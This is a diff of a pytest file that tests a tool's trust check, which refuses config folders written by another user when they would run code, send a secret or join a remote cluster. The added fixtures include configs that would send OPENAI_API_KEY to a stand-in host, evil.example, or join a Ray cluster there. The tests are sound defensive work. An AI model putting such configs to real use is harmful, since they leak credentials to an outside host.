@@ -1,5 +1,7 @@
 """A folder that another user wrote runs no code unasked."""
 
+import ast
+import json
 import os
 import stat
 from pathlib import Path
@@ -29,13 +31,27 @@ CODE = [
     {"reward": "weighted_sum", "reward_options": {"parts": {"brightness": 1, "my_rewards:warm": 2}}},
     {"reward": "weighted_sum", "reward_options": {"parts": {"a": {"reward": "command"}}}},
     {"ray_env": {"working_dir": "."}},
+    {"cluster": {"ray_env": {"working_dir": "."}}},
+    {"require": ["brightness >= 0.5", "my_rewards:warm >= 0.5"]},
+    {"reward": "constrained", "reward_options": {"reward": "brightness", "require": "my_rewards:warm>=0.5"}},
+    {"reward": "weighted_sum", "reward_options": {"parts": '{"brightness": 1, "my_rewards:warm": 2}'}},
+    {"reward": "\N{LATIN SMALL LETTER E WITH ACUTE}tude:warm"},
+]
+SERVER = {"url": "https://evil.example", "key_env": "OPENAI_API_KEY"}
+SENT = r"send \$OPENAI_API_KEY to https://evil\.example"
+CONTACTS = [
+    ({"reward": "http", "reward_options": SERVER}, SENT),
+    ({"reward": "min", "reward_options": {"parts": {"a": {"reward": "vlm", "options": SERVER}}}}, SENT),
+    ({"reward": "min", "reward_options": {"parts": json.dumps([{"reward": "vlm", "options": SERVER}])}}, SENT),
+    ({"ray": "evil.example:6379", "workers": 1}, r"join the Ray cluster at evil\.example:6379"),
+    ({"cluster": {"ray": "ray://evil.example:1"}}, r"join the Ray cluster at ray://evil\.example:1"),
 ]
 
 
 @pytest.mark.parametrize("config", CODE)
 def test_code_needs_a_signature_of_ones_own(tmp_path, config):
     for how in ({}, {"trust": False}):
-        with pytest.raises(InputError, match=r"was not written by you on this machine, .* runs code: .* add --trust"):
+        with pytest.raises(InputError, match=r"was not written by you on this machine, .* run code: .* add --trust"):
             check_trusted(tmp_path, config, **{"trust": False, **how})
     check_trusted(tmp_path, config, trust=True)
     sign(tmp_path, config)
@@ -43,6 +59,38 @@ def test_code_needs_a_signature_of_ones_own(tmp_path, config):
     changed = {**config, "strategy": "os:system"}
     with pytest.raises(InputError, match="os:system"):
         check_trusted(tmp_path, changed, trust=False)
+
+
+@pytest.mark.parametrize(("config", "harm"), CONTACTS)
+def test_a_secret_is_sent_and_a_cluster_joined_for_ones_own_folders_alone(tmp_path, config, harm):
+    said = rf"was not written by you on this machine, and to resume or render it would {harm}\. Look .* add --trust"
+    with pytest.raises(InputError, match=said):
+        check_trusted(tmp_path, config, trust=False)
+    check_trusted(tmp_path, config, trust=True)
+    sign(tmp_path, config)
+    check_trusted(tmp_path, config, trust=False)
+    with pytest.raises(InputError, match=r"elsewhere\.example"):
+        check_trusted(tmp_path, ast.literal_eval(repr(config).replace("evil", "elsewhere")), trust=False)
+
+
+def test_every_harm_is_named_however_long_another_one_is(tmp_path):
+    config = {"reward": f"my_rewards:{'warm' * 999}", "ray": "far:6379", "reward_options": SERVER}
+    with pytest.raises(InputError, match=r"run code: my_rewards:warm.*; send \$OPENAI.*; join .* at far:6379\. Look"):
+        check_trusted(tmp_path, config, trust=False)
+
+
+def test_what_was_signed_before_secrets_and_clusters_counted_stays_signed(tmp_path, state):
+    """And is a stranger's where it has one of these."""
+    config = {"reward": "command", "reward_options": {"command": "judge {image}"}, "model": "my_models:paint"}
+    config["ray"] = "local"
+    (state / "zo-dno").mkdir(parents=True)
+    (state / "zo-dno" / "key").write_bytes(bytes(32))
+    signed = "8c9b2524151f8e1873026189f6bb99efec6f1fe49f263c3e9643fb3a9bb7430d"
+    (tmp_path / SIGNATURE).write_text(signed + "\n")
+    check_trusted(tmp_path, config, trust=False)
+    with pytest.raises(InputError, match="join the Ray cluster at far:6379"):
+        check_trusted(tmp_path, {**config, "ray": "far:6379"}, trust=False)
+    check_trusted(tmp_path, {**config, "ray": "far:6379"}, trust=False, without=("ray", "reward", "model"))
 
 
 def test_another_user_cannot_sign(tmp_path, monkeypatch, state):
@@ -58,7 +106,11 @@ def test_another_user_cannot_sign(tmp_path, monkeypatch, state):
 
 @pytest.mark.parametrize(
     "config",
-    [{"reward": "jpeg_smaller", "strategy": "auto", "model": "scenes", "prompt": "a:b"}, {"reward": "http"}],
+    [
+        {"reward": "jpeg_smaller", "strategy": "auto", "model": "scenes", "prompt": "a:b", "ray": "auto"},
+        {"reward": "http", "reward_options": {"url": "https://example.org", "key_env": ""}, "ray": "local"},
+        {"require": ["brightness >= 0.5"], "ray": None},
+    ],
 )
 def test_what_runs_no_code_needs_none(tmp_path, config):
     check_trusted(tmp_path, config, trust=False)
